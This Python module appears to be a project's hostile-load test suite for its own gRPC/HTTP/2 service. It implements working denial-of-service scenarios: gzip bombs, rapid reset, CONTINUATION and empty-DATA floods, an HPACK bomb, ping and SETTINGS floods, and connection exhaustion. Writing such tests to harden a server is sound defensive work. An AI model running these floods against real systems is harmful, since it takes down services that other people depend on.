"""Attacks over gRPC and HTTP/2: without a key, and with one of another tenant."""

from __future__ import annotations

import asyncio
import gzip
import itertools
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import cache

import grpc

from hookline.v1.delivery_service_pb2 import ListDeliveriesRequest
from hookline.v1.event_pb2 import EVENT_VIEW_FULL, Event
from hookline.v1.event_service_pb2 import (
    ListEventsRequest,
    PublishEventsRequest,
    StreamPublishEventsRequest,
)
from hookline.v1.event_service_pb2_grpc import EventServiceStub
from tests.hostile import wire
from tests.hostile.scenario import Scenario
from tests.hostile.stage import Target
from tests.hostile.wire import Connection

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
PUBLISH = "/hookline.v1.EventService/PublishEvents"
STREAM = "/hookline.v1.EventService/StreamPublishEvents"
LIST_EVENTS = "/hookline.v1.EventService/ListEvents"
LIST_DELIVERIES = "/hookline.v1.DeliveryService/ListDeliveries"
TENANT = "tenants/hostile"
BIG_BYTES = 8_000_000
"""Just below what a message may have."""
CONNECTIONS = 8

Use = Callable[[Connection, Target], Awaitable[None]]


@cache
def bomb() -> bytes:
    """A message of 8 KB that unpacks to 8 MB."""
    return wire.message(gzip.compress(bytes(BIG_BYTES), 9), compressed=True)


@cache
def big_publish() -> memoryview:
    """A publish of 8 MB that is refused, for one event may not be so large, once it is read."""
    event = Event(type="hostile.event", binary_data=bytes(BIG_BYTES))
    request = PublishEventsRequest(tenant=TENANT, events=[event])
    return memoryview(wire.message(request.SerializeToString()))


async def on_connections(target: Target, use: Use, *, first: bytes | None = None) -> None:
    """Use several connections at once, each until the node hangs up."""

    async def one() -> None:
        connection = await Connection.open(target.host, target.port, first)
        reading = asyncio.ensure_future(connection.discard())
        try:
            await connection.send(wire.frame(wire.SETTINGS, wire.ACK))
            await use(connection, target)
        finally:
            connection.close()
            reading.cancel()

    ended = await asyncio.gather(*(one() for _ in range(CONNECTIONS)), return_exceptions=True)
    for end in ended:
        if isinstance(end, Exception):
            raise end


def call(connection: Connection, method: str, token: str | None, *more: tuple[str, str]) -> int:
    """Begin a call; the number of its stream. What it sends goes with the next write."""
    stream = connection.new_stream()
    block = wire.request_headers(method, token, *more)
    connection.begin(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
    return stream


# ------------------------------------------------------------------------------- messages


async def gzip_without_key(target: Target) -> None:
    """8 KB that unpack to 8 MB, to a method that needs no key, on stream after stream."""
    await on_connections(target, _bombs(CHECK, None))


async def gzip_with_key(target: Target) -> None:
    """The same to PublishEvents, with a key that may publish."""
    await on_connections(target, _bombs(PUBLISH, target.publish_token))


def _bombs(method: str, token: str | None) -> Use:
    async def use(connection: Connection, _: Target) -> None:
        while True:
            for _number in range(20):
                stream = call(connection, method, token, ("grpc-encoding", "gzip"))
                connection.begin(wire.data_frames(stream, bomb()))
            await connection.send(b"")

    return use


async def big_messages(target: Target) -> None:
    """Messages of 8 MB with a key, as fast as they are taken, and many at once."""

    async def use(connection: Connection, target: Target) -> None:
        sends = [_send_slowly(connection, target, len(big_publish()), 0.0) for _ in range(40)]
        await asyncio.gather(*sends)

    await on_connections(target, use)


async def big_messages_never_ended(target: Target) -> None:
    """All of 8 MB but the last bytes, which never come, with a key, on many streams."""

    async def use(connection: Connection, target: Target) -> None:
        sends = [_send_slowly(connection, target, BIG_BYTES - 1_000, 3_600.0) for _ in range(40)]
        await asyncio.gather(*sends)

    await on_connections(target, use)


async def _send_slowly(connection: Connection, target: Target, size: int, then_s: float) -> None:
    """Send the beginning of a message, as its stream's window lets, and wait."""
    stream = call(connection, PUBLISH, target.publish_token)
    await connection.send_data(stream, big_publish()[:size], ends=not then_s)
    with suppress(TimeoutError):
        async with asyncio.timeout(then_s or None):
            await connection.ended(stream)


async def trickle(target: Target) -> None:
    """A byte of a message now and then, on as many streams as there may be, with a key."""

    async def use(connection: Connection, target: Target) -> None:
        streams = [call(connection, PUBLISH, target.publish_token) for _ in range(500)]
        for piece in itertools.chain(big_publish()[:10_000]):
            for stream in streams:
                connection.begin(wire.frame(wire.DATA, 0, stream, bytes([piece])))
            await connection.send(b"")
            await connection.pause(0.05)

    await on_connections(target, use)


# ----------------------------------------------------------------------------- answers unread


async def lists_unread(target: Target) -> None:
    """Lists of 3 MB, whose answers are not read: the window is zero. With a key that may read."""
    request = ListEventsRequest(tenant=TENANT, page_size=1_000, view=EVENT_VIEW_FULL)
    await _unread(target, LIST_EVENTS, request.SerializeToString(), 40)


async def deliveries_unread(target: Target) -> None:
    """The same with deliveries."""
    request = ListDeliveriesRequest(tenant=TENANT, page_size=1_000)
    await _unread(target, LIST_DELIVERIES, request.SerializeToString(), 40)


async def _unread(target: Target, method: str, request: bytes, calls: int) -> None:
    async def use(connection: Connection, target: Target) -> None:
        for _number in range(calls):
            stream = call(connection, method, target.operate_token)
            connection.begin(wire.data_frames(stream, wire.message(request)))
        await connection.send(b"")
        await connection.closed()

    await on_connections(target, use, first=wire.settings(initial_window=0))


async def fill_events(target: Target) -> None:
    """Store 20 MB of events, so that a list has something to answer."""
    async with grpc.aio.insecure_channel(f"{target.host}:{target.port}") as channel:
        events = [Event(type="hostile.event", binary_data=bytes(200_000)) for _ in range(20)]
        request = PublishEventsRequest(tenant=TENANT, events=events)
        metadata = (("authorization", f"Bearer {target.publish_token}"),)
        for _ in range(5):
            await EventServiceStub(channel).PublishEvents(request, metadata=metadata)


async def streams_unread(target: Target) -> None:
    """Publishing streams whose answers are never read, and that go on sending."""
    refused = StreamPublishEventsRequest(sequence=1, tenant=TENANT).SerializeToString()

    async def use(connection: Connection, target: Target) -> None:
        streams = [call(connection, STREAM, target.publish_token) for _ in range(50)]
        sends = [
            connection.send_data(stream, wire.message(refused) * 200_000, ends=False)
            for stream in streams
        ]
        await asyncio.gather(*sends)

    await on_connections(target, use, first=wire.settings(initial_window=0))


async def watches(target: Target) -> None:
    """Watches of health, which need no key and never end, as many as there may be."""

    async def use(connection: Connection, _: Target) -> None:
        for _number in range(1_000):
            stream = call(connection, WATCH, None)
            connection.begin(wire.data_frames(stream, wire.message(b"")))
        await connection.send(b"")
        await connection.closed()

    await on_connections(target, use)


# ------------------------------------------------------------------------------------- frames


async def rapid_reset(target: Target) -> None:
    """Calls that are reset in the same write (CVE-2023-44487)."""

    async def use(connection: Connection, _: Target) -> None:
        while True:
            for _number in range(100):
                stream = call(connection, CHECK, None)
                connection.begin(wire.frame(wire.RST_STREAM, 0, stream, b"\0\0\0\x08"))
            await connection.send(b"")

    await on_connections(target, use)


async def pings(target: Target) -> None:
    """200 pings in one write, again and again; the answers are read."""
    await on_connections(target, _flood(wire.frame(wire.PING, 0, 0, bytes(8)) * 200))


async def pings_unread(target: Target) -> None:
    """Pings whose answers are never read."""
    await _unread_flood(target, wire.frame(wire.PING, 0, 0, bytes(8)) * 200)


async def pings_during_calls(target: Target) -> None:
    """Pings between calls that are answered: what the node writes makes it forget its strikes."""

    async def use(connection: Connection, _: Target) -> None:
        flood = wire.frame(wire.PING, 0, 0, bytes(8)) * 200
        while True:
            stream = call(connection, CHECK, None)
            connection.begin(wire.data_frames(stream, wire.message(b"")))
            await connection.send(flood)

    await on_connections(target, use)


async def settings_flood(target: Target) -> None:
    """SETTINGS frames, each of which asks for an acknowledgement."""
    await on_connections(target, _flood(wire.settings(table_size=4_096) * 200))


async def settings_unread(target: Target) -> None:
    """The same, and the acknowledgements are never read."""
    await _unread_flood(target, wire.settings(table_size=4_096) * 200)


async def window_updates(target: Target) -> None:
    """WINDOW_UPDATE frames of one byte."""
    await on_connections(target, _flood(wire.window_update(0, 1) * 500))


async def window_overflow(target: Target) -> None:
    """A window beyond 2³¹-1, for which a connection must end."""
    overflow = wire.window_update(0, wire.MAX_WINDOW) * 2
    await on_connections(target, _flood(overflow))


async def resets_of_nothing(target: Target) -> None:
    """RST_STREAM frames for streams that never were."""

    async def use(connection: Connection, _: Target) -> None:
        while True:
            for _number in range(500):
                stream = connection.new_stream()
                connection.begin(wire.frame(wire.RST_STREAM, 0, stream, b"\0\0\0\x08"))
            await connection.send(b"")

    await on_connections(target, use)


async def continuation(target: Target) -> None:
    """A header block without an end (CVE-2024-27316 and its kin)."""

    async def use(connection: Connection, _: Target) -> None:
        stream = connection.new_stream()
        connection.begin(wire.frame(wire.HEADERS, 0, stream, wire.request_headers(CHECK)))
        piece = wire.frame(wire.CONTINUATION, 0, stream, wire.literal("x", "y" * 16_000))
        while True:
            await connection.send(piece)

    await on_connections(target, use)


async def empty_continuation(target: Target) -> None:
    """The same with frames that hold nothing, and so come to no bound of bytes."""

    async def use(connection: Connection, _: Target) -> None:
        stream = connection.new_stream()
        connection.begin(wire.frame(wire.HEADERS, 0, stream, wire.request_headers(CHECK)))
        piece = wire.frame(wire.CONTINUATION, 0, stream) * 500
        while True:
            await connection.send(piece)

    await on_connections(target, use)


async def empty_data(target: Target) -> None:
    """DATA frames that hold nothing (CVE-2019-9518)."""

    async def use(connection: Connection, _: Target) -> None:
        stream = call(connection, CHECK, None)
        piece = wire.frame(wire.DATA, 0, stream) * 500
        while True:
            await connection.send(piece)

    await on_connections(target, use)


async def hpack_bomb(target: Target) -> None:
    """A field of 4 KB in the table, named thousands of times by one byte each (CVE-2016-6581)."""
    entry = b"\x40" + wire.literal("x-bomb", "y" * 4_000)[1:]
    block = wire.request_headers(CHECK) + entry + b"\xbe" * 12_000

    async def use(connection: Connection, _: Target) -> None:
        while True:
            stream = connection.new_stream()
            await connection.send(
                wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, stream, block)
            )

    await on_connections(target, use)


async def big_metadata(target: Target) -> None:
    """As much metadata as is taken without a key, on as many streams as there may be."""

    async def use(connection: Connection, _: Target) -> None:
        for _number in range(1_000):
            call(connection, WATCH, None, ("x-large", "y" * 15_000))
            await connection.send(b"")
        await connection.closed()

    await on_connections(target, use)


def _flood(data: bytes) -> Use:
    async def use(connection: Connection, _: Target) -> None:
        while True:
            await connection.send(data)

    return use


async def _unread_flood(target: Target, data: bytes) -> None:
    """Write and never read: answers fill the peer's buffers."""

    async def one() -> None:
        connection = await Connection.open(target.host, target.port)
        try:
            connection.stop_reading()
            while True:
                await connection.send(data)
        finally:
            connection.close()

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)), return_exceptions=True)


# -------------------------------------------------------------------------------- connections


async def connection_storm(target: Target) -> None:
    """Connections that are opened, used once and dropped, as fast as they come."""

    async def one() -> None:
        with suppress(OSError):
            connection = await Connection.open(target.host, target.port)
            stream = call(connection, CHECK, None)
            await connection.send(wire.data_frames(stream, wire.message(b"")))
            connection.close()

    await asyncio.gather(*(one() for _ in range(200)))


async def idle_connections(target: Target) -> None:
    """Connections that are opened and say nothing, until there are no more."""

    async def one() -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            await reader.read()
        finally:
            writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(3_000)), return_exceptions=True)


SCENARIOS = (
    Scenario("gzip without a key", gzip_without_key),
    Scenario("gzip with a key", gzip_with_key),
    Scenario("big messages", big_messages),
    Scenario("big messages never ended", big_messages_never_ended),
    Scenario("trickle", trickle),
    Scenario("lists unread", lists_unread, prepare=fill_events),
    Scenario("deliveries unread", deliveries_unread),
    Scenario("streams unread", streams_unread),
    Scenario("watches", watches),
    Scenario("rapid reset", rapid_reset),
    Scenario("pings", pings),
    Scenario("pings unread", pings_unread),
    Scenario("pings during calls", pings_during_calls),
    Scenario("settings", settings_flood),
    Scenario("settings unread", settings_unread),
    Scenario("window updates", window_updates),
    Scenario("window overflow", window_overflow),
    Scenario("resets of nothing", resets_of_nothing),
    Scenario("continuation", continuation),
    Scenario("empty continuation", empty_continuation),
    Scenario("empty data", empty_data),
    Scenario("hpack bomb", hpack_bomb),
    Scenario("big metadata", big_metadata),
    Scenario("connection storm", connection_storm),
    Scenario("idle connections", idle_connections),
)
